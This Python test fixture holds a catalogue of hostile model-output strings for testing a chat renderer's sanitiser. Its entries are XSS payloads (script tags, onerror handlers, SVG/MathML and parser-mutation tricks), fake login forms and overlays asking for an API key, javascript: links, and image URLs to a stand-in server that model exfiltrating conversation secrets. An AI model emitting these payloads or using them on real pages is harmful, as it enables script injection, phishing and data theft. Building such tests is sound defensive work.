"""Answers of a model that would take over a page which believes them. FOREIGN is another server; a script that runs calls pwn()."""
NESTED = "<div>" * 600 + "deep" + "</div>" * 600
TABLE = "| a | b |\n|---|---|\n" + "| <img src=x onerror=pwn()> | `x` |\n" * 400

HOSTILE = {
    # Scripts
    "script": "<script>pwn()</script>",
    "script in a paragraph": "text <script>pwn()</script> text",
    "script with a source": "<script src='FOREIGN/a.js'></script>",
    "script module": "<script type=module>import 'FOREIGN/a.js'; window.pwn()</script>",
    "script in pieces": "<scr<script>ipt>pwn()</scr</script>ipt>",
    "script of odd case": "<ScRiPt\n/x>pwn()</sCrIpT\t>",
    "script with a null": "<scr\0ipt>pwn()</script>",
    "script that never ends": "text\n\n<script>pwn()",
    "script that is preloaded": "<link rel=modulepreload href='FOREIGN/a.js'><link rel=preload as=script href='FOREIGN/b.js'>",
    "speculation rules": "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"FOREIGN/a\"]}]}</script>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\"></noscript>",
    # Event handlers
    "img onerror": "<img src=x onerror=pwn()>",
    "img onerror unquoted": "<img src=x\nonerror\n=\npwn()//",
    "img onload": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' onload=pwn()>",
    "body onload": "<body onload=pwn()><p>text",
    "autofocus": "<input autofocus onfocus=pwn()><textarea autofocus onfocus=pwn()></textarea><p tabindex=0 autofocus onfocus=pwn()>x</p>",
    "contenteditable": "<p contenteditable autofocus onfocus=pwn()>x</p>",
    "details ontoggle": "<details open ontoggle=pwn()><summary>x</summary>y</details>",
    "video onerror": "<video autoplay onerror=pwn()><source src=x onerror=pwn()></video><audio src=x onerror=pwn()></audio>",
    "marquee onstart": "<marquee onstart=pwn()>x</marquee>",
    "animation": "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=pwn() onanimationend=pwn()>x</p>",
    "pointer handlers": "<p onmouseover=pwn() onpointerenter=pwn() style='position:fixed;inset:0'>x</p>",
    # SVG and MathML
    "svg onload": "<svg onload=pwn()><circle r=9 /></svg>",
    "svg script": "<svg><script>pwn()</script><script href='FOREIGN/a.js' /></svg>",
    "svg animate": "<svg><a><animate attributeName=href values='javascript:pwn()' begin=0s /><text y=20>x</text></a></svg>",
    "svg set": "<svg><set attributeName=onmouseover to='pwn()' onbegin=pwn() begin=0s /></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn() />#x' /></svg>",
    "svg image": "<svg width=9 height=9><image href='FOREIGN/a.png' width=9 height=9 /></svg>",
    "svg foreignObject": "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=pwn()><iframe src='FOREIGN/f'></iframe></body></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn()&gt;\"></mglyph></table></mtext></math>",
    "mathml href": "<math href='javascript:pwn()'><mi href='javascript:pwn()' xlink:href='javascript:pwn()'>x</mi></math>",
    # Mutations of a parser
    "mutation by svg": "<svg></p><style><a id=\"</style><img src=1 onerror=pwn()>\"></svg>",
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "mutation by comments": "<!--><img src=x onerror=pwn()>--><!--!><img src=x onerror=pwn()>-->",
    "mutation by depth": NESTED + "<img src=x onerror=pwn()>",
    "template": "<template><script>pwn()</script><img src=x onerror=pwn()></template><div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>",
    "clobbering": "<a id=document></a><img name=cookie><form id=location><input name=href value='javascript:pwn()'></form><a id=trustedTypes href='javascript:pwn()'>x</a>",
    # Frames and documents
    "iframe": "<iframe src='FOREIGN/f'></iframe>",
    "iframe with a script": "<iframe srcdoc='<script>parent.pwn()</script>'></iframe><iframe src='javascript:parent.pwn()'></iframe>",
    "object and embed": "<object data='FOREIGN/o'></object><embed src='FOREIGN/e'><object data='javascript:pwn()'></object>",
    "portal and frameset": "<frameset onload=pwn()><frame src='FOREIGN/f'></frameset><portal src='FOREIGN/p'></portal><fencedframe src='FOREIGN/p'></fencedframe>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=FOREIGN/m'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='connect-src none'><meta name=referrer content=unsafe-url>",
    "base": "<base href='FOREIGN/'><a href=x>x</a><img src=y>",
    # Forms
    "form": "<form action='FOREIGN/f'><input name=key placeholder='API key'><button>Log in again</button></form>",
    "form elsewhere": "<button form=x formaction='javascript:pwn()'>x</button><input type=submit formaction='FOREIGN/f'><input type=image src='FOREIGN/i.png'>",
    "form that sends itself": "<form id=f action='FOREIGN/f' method=post></form><img src=x onerror=\"f.submit()\"><isindex type=submit action='FOREIGN/f'>",
    "dialog": "<dialog open style='position:fixed;inset:0'>Enter the key: <input></dialog><div popover=manual>x</div>",
    # Styles
    "style overlay": "<div style='position:fixed;inset:0;background:#fff;z-index:2147483647'>The session has ended: <a href='FOREIGN/l'>log in</a></div>",
    "style element": "<style>body *{visibility:hidden!important} body::after{content:'x';position:fixed;inset:0;background:url(FOREIGN/s.png)}</style>",
    "style import": "<style>@import 'FOREIGN/s.css';</style><link rel=stylesheet href='FOREIGN/t.css'>",
    "style url": "<p style=\"background:url('FOREIGN/b.png');list-style-image:url(FOREIGN/l.png)\">x</p><table background='FOREIGN/t.png'><tr><td>x</table>",
    "style fonts": "<style>@font-face{font-family:f;src:url(FOREIGN/f.woff2)} *{font-family:f}</style><p>x</p>",
    "classes of the page": "<div class='dialog modal overlay toast banner open' id='prompt' style='position:absolute;top:-9999px'>x</div>",
    # Links
    "javascript links": "[x](javascript:pwn()) [y](JaVaScRiPt&colon;pwn()) [z](\x01javascript:pwn()) <javascript:pwn()> [w](java&Tab;script:pwn())",
    "javascript anchors": "<a href='javascript:pwn()'>x</a><a href='java\nscript:pwn()'>y</a><area href='javascript:pwn()'><a xlink:href='javascript:pwn()'>z</a>",
    "data links": "[x](data:text/html,<script>opener.pwn()</script>) [y](vbscript:pwn()) <a href='data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+'>z</a> [b](blob:x)",
    "links out": "[x](FOREIGN/x) <a href='FOREIGN/y' target=_self ping='FOREIGN/ping' rel=opener>y</a> FOREIGN/z [d](//localhost/x)",
    "hints": "<link rel=preconnect href='FOREIGN'><link rel=prefetch href='FOREIGN/p'><link rel=dns-prefetch href='FOREIGN'><link rel=icon href='FOREIGN/i.png'><link rel=manifest href='FOREIGN/m'>",
    # Images by URL, the way out for what a conversation holds
    "markdown images": "![x](FOREIGN/a.png?secret) ![y][r] [![z](FOREIGN/c.png)](FOREIGN/d)\n\n[r]: FOREIGN/b.png 'title'",
    "html images": "<img src='FOREIGN/a.png'><img srcset='FOREIGN/b.png 1x'><picture><source srcset='FOREIGN/c.png'><img></picture><img lowsrc='FOREIGN/d.png' dynsrc='FOREIGN/e.png'>",
    "media": "<video src='FOREIGN/v' poster='FOREIGN/p.png' autoplay></video><audio src='FOREIGN/a' autoplay></audio><video><track default src='FOREIGN/t'></video>",
    "data images": "![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='pwn()'%3E%3Cscript%3Epwn()%3C/script%3E%3C/svg%3E)",
    # Formulas
    "formula links": "$\\href{javascript:pwn()}{x}$ and $$\\url{javascript:pwn()}$$ and $\\href{FOREIGN/k}{y}$",
    "formula images": "$\\includegraphics[height=1em]{FOREIGN/k.png}$ $$\\htmlStyle{position:fixed;inset:0}{x}\\htmlId{prompt}{y}\\htmlClass{open}{z}\\htmlData{a=b}{w}$$",
    "formula with markup": "$\\text{<img src=x onerror=pwn()>}$ $$<script>pwn()</script>$$ \\(<svg onload=pwn()>\\)",
    "formula that grows": "$$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}}}\\def\\b{\\b\\b}\\b$$ $\\rule{9999em}{9999em}$ $\\kern{-999em}x$ $\\raisebox{99em}{x}$",
    # Code
    "code fences": "````html\n```\n<script>pwn()</script>\n```\n````\n\n```html<img src=x onerror=pwn()>\n<img src=x onerror=pwn()>\n```\n\n```\"><img/src/onerror=pwn()>\nx",
    "code in pieces": "`<img src=x onerror=pwn()>` ``<script>pwn()</script> ` `` <code><img src=x onerror=pwn()></code>\n\n    <script>pwn()</script>",
    "a language of the page": "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString onload=pwn()\nx\n```",
    # Text
    "titles": "[x](# \"\\\"><img src=x onerror=pwn()>\") ![a\\\"onerror=pwn()](x '\"onerror=pwn()') [y](#'onclick=pwn() z')",
    "references": "[a]: <javascript:pwn()>\n[b]: # '\"><script>pwn()</script>'\n\n[a] [b] ![b]\n\n&lt;img src=x onerror=pwn()&gt; &#60;script>pwn()&#60;/script>",
    "references before definitions": "[a] ![b] [c] [__proto__] [constructor]\n\n> text\n\n[a]: javascript:pwn()\n[b]: FOREIGN/i.png\n[c]: <data:text/html,<script>pwn()</script>> '\"><img src=x onerror=pwn()>'\n"
                                     "[__proto__]: FOREIGN/p\n[toString]: vbscript:pwn()\n\n[toString]",
    "emphasis in Chinese": "**“<img src=x onerror=pwn()>”**是**「[x](javascript:pwn())」**的~~（<svg onload=pwn()>）~~" + "字**“" * 1000 + "*”字_" * 1000,
    "bidi marks": "\u202egnp.exe\u202c \u2066\u2067\u202b [\u202ehttps://evil](FOREIGN/x) \u200b\u200d\ufeff `\u202e} // only admins {\u2066`",
    "marks above marks": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 200 + " <p>x",
    "a huge table": TABLE,
    "a huge line": "<" * 3000 + "a" * 20000 + "[" * 500 + "*_" * 500,
}
